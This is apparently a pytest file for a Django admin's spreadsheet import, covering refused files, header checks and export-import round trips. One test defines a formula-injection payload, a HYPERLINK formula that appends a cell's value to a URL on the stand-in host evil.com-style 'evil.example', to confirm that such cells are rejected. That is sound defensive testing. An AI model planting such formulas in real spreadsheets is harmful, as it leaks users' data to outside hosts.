"""Admin imports, the file as a whole: what is refused before a row is read
(empty, wrong kind, too large, not UTF-8, wrong headers, formulas), and the
round trip export → Excel → import that leaves the records as they were."""

import io
import zipfile

import openpyxl
import pytest
from django.forms.models import model_to_dict
from django.urls import reverse

from agreements.models import Agreement
from agreements.resources import AgreementResource
from delegations.columns import COLUMNS as DELEGATION_COLUMNS
from delegations.models import Delegation
from delegations.resources import DelegationResource
from partners.models import Partner
from partners.resources import PartnerResource
from projects.models import Project, Transaction
from projects.resources import ProjectResource
from register.import_admin import MAX_IMPORT_BYTES, read_csv, read_xlsx
from tests.import_files import HEADER_ROW, confirm, csv_bytes, download, headers, post_file, xlsx_bytes
from tests.test_imports import DELEGATION_HEADERS, delegation_row, run


def docx_bytes():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


NOT_A_SPREADSHEET = "không phải bảng tính CSV hay XLSX."
FILE_PROBLEMS = {
    "empty": (b"", "doan.csv", "Tệp trống, không có dữ liệu."),
    "png renamed": (b"\x89PNG\r\n\x1a\n" + bytes(200), "doan.csv", f"Đây là tệp PNG, {NOT_A_SPREADSHEET}"),
    "pdf renamed": (b"%PDF-1.7\n" + bytes(200), "doan.xlsx", f"Đây là tệp PDF, {NOT_A_SPREADSHEET}"),
    "word document": (docx_bytes(), "doan.xlsx", f"Đây là một văn bản Word, {NOT_A_SPREADSHEET}"),
    "cp1258 csv": ("Tiêu đề\nĐoàn ra\n".encode("cp1258", errors="replace"), "doan.csv", "không dùng bảng mã UTF-8"),
    "20 MB + 1 byte": (b"a" * (MAX_IMPORT_BYTES + 1), "doan.csv", "Tệp lớn hơn 20 MB (20,1 MB)."),
    "21 MB": (b"a" * (21 * 1024 * 1024), "doan.csv", "Tệp lớn hơn 20 MB (21,0 MB)."),
    "headers only": (csv_bytes(DELEGATION_HEADERS, []), "doan.csv", "Trang tính có tiêu đề cột nhưng không có dòng"),
}


@pytest.mark.parametrize("problem", FILE_PROBLEMS)
def test_a_file_that_cannot_be_imported_gets_its_reason_and_changes_nothing(staff_client, seeded, problem):
    data, name, message = FILE_PROBLEMS[problem]
    before = Delegation.objects.count()
    response = post_file(staff_client, Delegation, data, name)
    assert response.status_code == 200
    assert message in response.text
    assert "confirm_form" not in response.context and "result" not in response.context
    assert Delegation.objects.count() == before


@pytest.mark.parametrize(
    ("header_row", "message"),
    [
        (["Foo", "Bar"], "Thiếu cột: “Tiêu đề”. Cột không nhận ra: “Foo” ở cột A (1), “Bar” ở cột B (2)."),
        (["Hướng đoàn", "Ngày bắt đầu"], "Thiếu cột: “Tiêu đề”."),
        ([*DELEGATION_HEADERS, "Ghi chú riêng"], "Cột không nhận ra: “Ghi chú riêng” ở cột X (24)."),
        (["Tiêu đề", "tieu de"], "Cột “Tiêu đề” xuất hiện hai lần trong trang tính."),
    ],
)
def test_a_sheet_without_the_expected_headers_is_refused_as_a_whole(staff_client, seeded, header_row, message):
    before = Delegation.objects.count()
    data = csv_bytes(header_row, [["Đoàn ra"] * len(header_row)])
    response = post_file(staff_client, Delegation, data)
    assert message in response.text
    assert "confirm_form" not in response.context
    assert Delegation.objects.count() == before


def test_a_format_chosen_against_the_file_is_refused(staff_client, seeded):
    data = xlsx_bytes(("Đoàn", DELEGATION_HEADERS, [delegation_row("Đoàn A")]))
    from tests.import_files import import_url, upload

    response = staff_client.post(import_url(Delegation), {"import_file": upload(data, "a.xlsx"), "format": "0"})
    assert "Tệp này là tệp XLSX" in response.text


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_in_a_cell_is_a_row_error_and_nothing_is_saved(staff_client, seeded, fmt):
    before = Delegation.objects.count()
    rows = [delegation_row("Đoàn tốt"), delegation_row(FORMULA), delegation_row("Đoàn", leader_name="@SUM(1)")]
    if fmt == "csv":
        data, name = csv_bytes(DELEGATION_HEADERS, rows), "doan.csv"
    else:
        data, name = xlsx_bytes(("Đoàn", DELEGATION_HEADERS, rows)), "doan.xlsx"  # openpyxl stores a real formula
    response = post_file(staff_client, Delegation, data, name)
    problems = {(n, c): m for _s, n, c, m in response.context["result"].problems()}
    assert problems[(3, "Tiêu đề")].startswith("Ô bắt đầu bằng dấu “=” mà bảng tính sẽ chạy như một công thức")
    assert "không được chấp nhận" in problems[(3, "Tiêu đề")]
    assert problems[(4, "Trưởng đoàn")].startswith("Ô bắt đầu bằng dấu “@”")
    assert Delegation.objects.count() == before


def test_the_exports_apostrophe_before_formula_like_text_is_removed(seeded):
    data = csv_bytes(DELEGATION_HEADERS, [delegation_row("'=1+1 là phép cộng", outcome="'- ý thứ nhất")])
    result = run(DelegationResource(), data)
    assert not result.has_validation_errors(), result.problems()
    assert Delegation.objects.filter(title="=1+1 là phép cộng", outcome="- ý thứ nhất").exists()


# --- The round trip ----------------------------------------------------------------------------------------------


def snapshot():
    """Every field of every record an import may touch, many-to-many sets included."""

    def rows(queryset, *m2m):
        return {
            record.pk: {**model_to_dict(record), **{name: set(getattr(record, name).all()) for name in m2m}}
            for record in queryset
        }

    return {
        "delegations": rows(Delegation.objects.all(), "partners"),
        "agreements": rows(Agreement.objects.all(), "partners", "fields"),
        "partners": rows(Partner.objects.all()),
        "projects": rows(Project.objects.all(), "locations", "participants"),
        "transactions": rows(Transaction.objects.all()),
        "updated": sorted(
            str(m.objects.values_list("updated_at", flat=True).order_by("pk")[::1]) for m in (Delegation, Project)
        ),
    }


ROUND_TRIPS = [
    ("delegations", DelegationResource),
    ("agreements", AgreementResource),
    ("partners", PartnerResource),
    ("projects", ProjectResource),
]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize(("app", "resource"), ROUND_TRIPS)
def test_an_export_imported_back_unchanged_leaves_the_records_identical(staff_client, seeded, app, resource, fmt):
    Agreement.objects.filter(pk=1).update(code="01/2019/BTT")
    Project.objects.filter(pk=2).update(code="WB-HIV", committed_amount="1234.50", currency="USD")
    before = snapshot()
    data = download(staff_client, reverse(f"{app}:export_{fmt}"))
    result = run(resource(), data, fmt)
    assert not result.has_errors() and not result.has_validation_errors(), result.problems()
    assert result.totals["new"] == result.totals["update"] == 0
    assert result.totals["skip"] > 0
    if app == "projects" and fmt == "xlsx":
        assert [child.totals["skip"] for child in result.children] == [2]
    assert snapshot() == before


def edited_delegation_workbook(client):
    """The delegation export with the size of record 3 changed to 57, as Excel saves it."""
    workbook = openpyxl.load_workbook(io.BytesIO(download(client, reverse("delegations:export_xlsx"))))
    sheet = workbook.active
    header = [cell.value for cell in sheet[HEADER_ROW]]
    size, number = header.index("Số người"), header.index("Số hồ sơ")
    edited = next(row for row in sheet.iter_rows(min_row=HEADER_ROW + 1) if row[number].value == 3)
    edited[size].value = 57
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_a_workbook_edited_in_excel_updates_only_the_edited_record(client, approver, seeded):
    client.force_login(approver)  # the seeded records are approved: approvers may still correct them
    data = edited_delegation_workbook(client)
    before = snapshot()

    preview = post_file(client, Delegation, data, "doan-ra-vao.xlsx")
    assert preview.context["result"].totals["update"] == 1
    assert confirm(client, Delegation, preview).status_code == 302
    after = snapshot()
    assert after["delegations"][3]["size"] == 57
    assert {pk: row for pk, row in after["delegations"].items() if pk != 3} == {
        pk: row for pk, row in before["delegations"].items() if pk != 3
    }


def test_staff_cannot_change_an_approved_record_by_import(staff_client, seeded):
    before = snapshot()
    preview = post_file(staff_client, Delegation, edited_delegation_workbook(staff_client), "doan-ra-vao.xlsx")
    assert "confirm_form" not in preview.context
    assert "chỉ được sửa hồ sơ nháp" in preview.text
    assert snapshot() == before


def test_the_readers_number_rows_as_excel_does(seeded):
    rows = [delegation_row("A"), [""] * len(DELEGATION_HEADERS), delegation_row("B")]
    csv_file, xlsx_file = csv_bytes(DELEGATION_HEADERS, rows), xlsx_bytes(("x", DELEGATION_HEADERS, rows))
    for dataset in (read_csv(csv_file), read_xlsx(xlsx_file)):
        assert [row[0] for row in dataset] == [2, 4]
    assert headers(DELEGATION_COLUMNS) == DELEGATION_HEADERS


def test_the_readers_find_the_header_below_an_exports_title_rows(seeded):
    title_rows = [["Danh sách đoàn ra, đoàn vào"], ["Thời gian: mọi thời gian"], ["Xuất ngày 01/02/2024 bởi khách"]]
    rows = [*title_rows, DELEGATION_HEADERS, delegation_row("A"), delegation_row("B")]
    csv_file = csv_bytes(rows[0], rows[1:])
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    for dataset in (read_csv(csv_file), read_xlsx(buffer.getvalue())):
        assert list(dataset.headers[1:]) == DELEGATION_HEADERS
        assert [row[0] for row in dataset] == [5, 6]  # Excel's numbers: the title rows count


def test_a_sheet_of_one_column_keeps_its_first_row_as_the_header(seeded):
    dataset = read_csv(csv_bytes(["Tiêu đề"], [["Đoàn A"], ["Đoàn B"]]))
    assert list(dataset.headers[1:]) == ["Tiêu đề"]
    assert [row[1] for row in dataset] == ["Đoàn A", "Đoàn B"]
